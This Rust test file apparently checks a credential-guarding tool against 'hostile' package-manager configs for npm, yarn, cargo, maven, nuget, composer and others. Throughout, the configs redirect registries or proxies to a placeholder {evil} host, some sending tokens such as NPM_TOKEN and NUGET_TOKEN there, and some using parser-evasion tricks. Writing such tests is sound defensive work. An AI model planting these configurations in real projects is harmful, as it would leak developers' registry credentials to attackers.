//! The hostile projects, by ecosystem; those of Python are in [`super::python`].

use gatepass_core::token::Permission;

use super::{PROJECT, Project, attack};

pub(super) fn attack_all(projects: &[Project], expected: usize) {
    let tried: usize = projects.iter().map(attack).sum();
    println!("{tried} attacks by {} projects", projects.len());
    assert_eq!(tried, expected);
}

const NPM: Project = Project {
    manager: "npm",
    program: "npm",
    files: &[("package.json", r#"{"name":"ours","version":"1.0.0"}"#)],
    script: "npm view tiny version --fetch-retries=0",
    ..PROJECT
};

#[test]
fn javascript() {
    const REGISTRY: &[(&str, &str)] = &[(".npmrc", "registry=http://{evil}/\n")];
    const VARIABLE: &[(&str, &str)] =
        &[(".npmrc", "registry=http://{evil}/\n//{evil}/:_authToken=${NPM_TOKEN}\n//{evil}/:always-auth=true\n")];
    const PROXY: &[(&str, &str)] = &[(".npmrc", "; ours\nproxy=http://{evil}/\nnoproxy=\n")];
    let yarn = Project { manager: "yarn", program: "yarn-classic", script: "yarn-classic info tiny version", ..NPM };
    let berry = Project {
        manager: "yarn-berry",
        program: "yarn-berry",
        files: &[("package.json", r#"{"name":"ours","version":"1.0.0"}"#), ("yarn.lock", "")],
        script: "export YARN_ENABLE_TELEMETRY=0\nyarn-berry npm info tiny --fields version",
        ..PROJECT
    };
    let pnpm = Project { manager: "pnpm", program: "pnpm", script: "pnpm view tiny version", ..NPM };
    let bun = Project { manager: "bun", program: "bun", script: "bun pm view tiny version", ..NPM };
    attack_all(
        &[
            Project { hostile: REGISTRY, ..NPM },
            Project { hostile: VARIABLE, shown_is_noted: true, ..NPM },
            Project { hostile: PROXY, applied_is_told: true, ..NPM },
            Project { hostile: &[(".npmrc", "\"\\u0070roxy\" = http://{evil}/\n")], applied_is_told: true, ..NPM },
            Project { hostile: &[(".npmrc", "proxy[]=http://{evil}/\n")], applied_is_told: true, ..NPM },
            Project { hostile: &[(".npmrc", "a=b\rproxy=http://{evil}/\n")], applied_is_told: true, ..NPM },
            Project {
                permission: Permission::ReadWrite,
                files: &[],
                hostile: &[(
                    "package.json",
                    r#"{"name":"ours","version":"1.0.0","publishConfig":{"proxy":"http://{evil}/"}}"#,
                )],
                script: "npm publish --fetch-retries=0 || npm publish --fetch-retries=0 ..",
                applied_is_told: true,
                ..NPM
            },
            Project { hostile: REGISTRY, ..pnpm },
            Project { hostile: VARIABLE, ..pnpm },
            Project {
                hostile: &[("pnpm-workspace.yaml", "packages: []\nhttpProxy: http://{evil}/\n")],
                applied_is_told: true,
                ..pnpm
            },
            Project { hostile: REGISTRY, ..yarn },
            // Yarn 1 does not start with it, and `apply` refuses all the same.
            Project { hostile: VARIABLE, applied_is_told: true, shown_is_noted: true, ..yarn },
            Project { hostile: &[(".yarnrc", "proxy \"http://{evil}/\"\n")], applied_is_told: true, ..yarn },
            Project { hostile: &[(".yarnrc", "--info.proxy \"http://{evil}/\"\n")], applied_is_told: true, ..yarn },
            Project { hostile: &[(".yarnrc", "--proxy \"http://{evil}/\"\n")], applied_is_told: true, ..yarn },
            Project { hostile: &[(".yarnrc", "\"--*.proxy\" \"http://{evil}/\"\n")], applied_is_told: true, ..yarn },
            Project { hostile: &[(".env", "http_proxy=http://{evil}\n")], applied_is_told: true, ..bun },
            Project { hostile: REGISTRY, ..bun },
            Project { hostile: VARIABLE, shown_is_noted: true, ..bun },
            Project { hostile: &[("bunfig.toml", "[install]\nregistry = \"http://{evil}/\"\n")], ..bun },
            Project {
                hostile: &[(
                    ".yarnrc.yml",
                    "npmRegistryServer: \"http://{evil}\"\nnpmAlwaysAuth: true\nunsafeHttpWhitelist: [\"127.0.0.1\"]\n",
                )],
                ..berry
            },
            Project {
                hostile: &[(
                    ".yarnrc.yml",
                    "npmRegistryServer: \"http://{evil}\"\nunsafeHttpWhitelist: [\"127.0.0.1\"]\nnpmRegistries:\n  \
                     \"//{evil}\":\n    npmAlwaysAuth: true\n    npmAuthToken: \"${NPM_TOKEN-}\"\n",
                )],
                shown_is_noted: true,
                ..berry
            },
            Project { hostile: &[(".yarnrc.yml", "httpProxy: \"http://{evil}\"\n")], applied_is_told: true, ..berry },
        ],
        92,
    );
}

#[test]
fn rust() {
    let cargo = Project {
        manager: "cargo",
        program: "cargo",
        files: &[
            (
                "Cargo.toml",
                "[package]\nname = \"ours\"\nversion = \"2.0.0\"\nedition = \"2021\"\n[dependencies]\n\
                 tiny = { version = \"1\", registry = \"gatepass\" }\n[workspace]\n",
            ),
            ("src/lib.rs", ""),
        ],
        script: "cargo generate-lockfile",
        applied_is_told: true,
        ..PROJECT
    };
    const INDEX: &str = "[registries.gatepass]\nindex = \"sparse+http://{evil}/index/\"\n";
    const SOURCE: &str = "[source.gatepass]\nregistry = \"sparse+http://{host}/artifactory/api/cargo/cargo/index/\"\n\
                          replace-with = \"evil\"\n[source.evil]\nregistry = \"sparse+http://{evil}/index/\"\n";
    attack_all(
        &[
            Project { hostile: &[(".cargo/config.toml", INDEX)], ..cargo },
            Project { hostile: &[(".cargo/config", INDEX)], ..cargo },
            Project {
                hostile: &[(".cargo/config.toml", "registries.'gatepass' = { index = 'sparse+http://{evil}/' }\n")],
                ..cargo
            },
            Project { hostile: &[(".cargo/config.toml", "[http]\nproxy = \"{evil}\"\n")], ..cargo },
            Project {
                hostile: &[(".cargo/config.toml", "include = [\"more.toml\"]\n"), (".cargo/more.toml", INDEX)],
                ..cargo
            },
            Project { variables: &[("CARGO_REGISTRIES_GATEPASS_INDEX", "sparse+http://{evil}/index/")], ..cargo },
            Project {
                hostile: &[(".cargo/config.toml", "[source.gatepass]\nregistry = \"sparse+http://{evil}/index/\"\n")],
                ..cargo
            },
            Project { hostile: &[(".cargo/config.toml", SOURCE)], ..cargo },
        ],
        32,
    );
}

#[test]
fn jvm_and_dotnet() {
    const POM: &str = "<project><modelVersion>4.0.0</modelVersion><groupId>org.example</groupId><artifactId>ours</artifactId>\
         <version>1.0</version><packaging>pom</packaging><repositories><repository><id>gatepass</id>\
         <url>http://{evil}/</url></repository></repositories><distributionManagement><repository><id>gatepass</id>\
         <url>http://{evil}/</url></repository></distributionManagement><dependencies><dependency>\
         <groupId>org.example</groupId><artifactId>tiny</artifactId><version>1.2.3</version></dependency></dependencies></project>";
    let maven =
        Project { manager: "maven", program: "mvn", script: "mvn -B -q validate dependency:resolve", ..PROJECT };
    let deploy = Project {
        script: "cp -rL /usr/share/maven-repo $HOME/repository
            mvn -B -q -llr -Dmaven.repo.local=$HOME/repository deploy:deploy-file -Dversion=1 -Dpackaging=pom \
            -DgroupId=org.example -DartifactId=ours -Dfile=$(ls pom.xml ../pom.xml 2>/dev/null | head -n1) -DrepositoryId=gatepass -Durl=http://{evil}/",
        ..maven
    };
    let nuget =
        Project { manager: "nuget", program: "nuget-exe", script: "nuget-exe install tiny -NonInteractive", ..PROJECT };
    attack_all(
        &[
            Project { hostile: &[("pom.xml", POM)], ..maven },
            Project { hostile: &[("pom.xml", POM)], ..deploy },
            Project {
                files: &[("pom.xml", POM)],
                hostile: &[(
                    ".mvn/jvm.config",
                    "-Dhttp.proxyHost=127.0.0.1 -Dhttp.proxyPort={port} -Dhttp.nonProxyHosts=none\n",
                )],
                applied_is_told: true,
                ..maven
            },
            Project {
                files: &[("pom.xml", POM)],
                hostile: &[
                    (".mvn/maven.config", "-gs\nevil.xml\n"),
                    (
                        "evil.xml",
                        "<settings><proxies><proxy><id>p</id><active>true</active><protocol>http</protocol>\
                         <host>127.0.0.1</host><port>{port}</port></proxy></proxies></settings>",
                    ),
                ],
                applied_is_told: true,
                ..maven
            },
            Project {
                hostile: &[(
                    "nuget.config",
                    "<configuration><packageSources><clear /><add key=\"gatepass\" value=\"http://{evil}/index.json\" \
                     protocolVersion=\"3\" allowInsecureConnections=\"true\" /></packageSources></configuration>",
                )],
                shown_is_noted: true,
                ..nuget
            },
            Project {
                hostile: &[(
                    "nuget.config",
                    "<configuration><packageSources><clear /><add key=\"evil\" value=\"http://{evil}/index.json\" />\
                     </packageSources><packageSourceCredentials><evil><add key=\"Username\" value=\"a\" />\
                     <add key=\"ClearTextPassword\" value=\"%NUGET_TOKEN%\" /></evil></packageSourceCredentials></configuration>",
                )],
                shown_is_noted: true,
                ..nuget
            },
            Project {
                hostile: &[(
                    "nuget.config",
                    "<configuration><config><add key=\"http_proxy\" value=\"http://{evil}\" /></config></configuration>",
                )],
                applied_is_told: true,
                ..nuget
            },
        ],
        28,
    );
}

#[test]
fn the_others() {
    let bundler = Project {
        manager: "bundler",
        program: "bundle",
        files: &[("Gemfile", "source 'https://rubygems.org'\ngem 'tiny'\n")],
        script: "bundle lock",
        ..PROJECT
    };
    let composer = Project {
        manager: "composer",
        program: "composer",
        script: "export COMPOSER_ALLOW_SUPERUSER=1\ncomposer update --no-interaction --no-plugins",
        ..PROJECT
    };
    let conan = Project { manager: "conan", program: "conan", script: "conan search -r gatepass 'tiny/*'", ..PROJECT };
    let gem = Project { manager: "rubygems", program: "gem", script: "gem list --remote tiny", ..PROJECT };
    let skopeo = Project {
        manager: "skopeo",
        program: "skopeo",
        script: "skopeo inspect --tls-verify=false docker://{evil}/team/tiny:1.0",
        ..PROJECT
    };
    let curl =
        Project { manager: "generic", program: "curl", script: "curl --netrc -fsS http://{evil}/file", ..PROJECT };
    attack_all(
        &[
            Project {
                hostile: &[(".bundle/config", "---\nBUNDLE_MIRROR__HTTPS://RUBYGEMS__ORG/: \"http://{evil}/\"\n")],
                applied_is_told: true,
                ..bundler
            },
            Project { files: &[], hostile: &[("Gemfile", "source 'http://{evil}/'\ngem 'tiny'\n")], ..bundler },
            Project {
                hostile: &[(
                    "composer.json",
                    r#"{"repositories":[{"type":"composer","url":"http://{evil}/"},{"packagist.org":false}],
                       "require":{"a/tiny":"*"},"config":{"secure-http":false}}"#,
                )],
                ..composer
            },
            Project {
                hostile: &[(
                    "composer.json",
                    r#"{"repositories":[{"type":"composer","url":"http://{host}/artifactory/api/composer/composer",
                       "options":{"http":{"proxy":"tcp://{evil}","request_fulluri":true}}},{"packagist.org":false}],
                       "require":{"a/tiny":"*"},"config":{"secure-http":false}}"#,
                )],
                applied_is_told: true,
                ..composer
            },
            Project {
                files: &[("composer.json", r#"{"require":{"a/tiny":"*"},"config":{"secure-http":false}}"#)],
                hostile: &[(
                    "composer.lock",
                    r#"{"content-hash":"","packages":[{"name":"a/tiny","version":"1.0.0","type":"library","dist":
                       {"type":"zip","url":"http://{host}/artifactory/api/composer/composer/tiny.zip","reference":"",
                       "shasum":""},"transport-options":{"http":{"proxy":"tcp://{evil}","request_fulluri":true}}}],
                       "packages-dev":[],"aliases":[],"minimum-stability":"stable","stability-flags":[],
                       "prefer-stable":false,"prefer-lowest":false,"platform":[],"platform-dev":[]}"#,
                )],
                script: "export COMPOSER_ALLOW_SUPERUSER=1\ncomposer install --no-interaction --no-plugins",
                applied_is_told: true,
                ..composer
            },
            Project {
                hostile: &[
                    (".conanrc", "conan_home=./elsewhere\n"),
                    (
                        "elsewhere/remotes.json",
                        r#"{"remotes":[{"name":"gatepass","url":"http://{evil}/","verify_ssl":true}]}"#,
                    ),
                ],
                ..conan
            },
            Project { hostile: &[(".gemrc", ":sources:\n- http://{evil}/\n")], ..gem },
            Project { manager: "podman", ..skopeo },
            Project { manager: "docker", ..skopeo },
            skopeo,
            curl,
        ],
        44,
    );
}
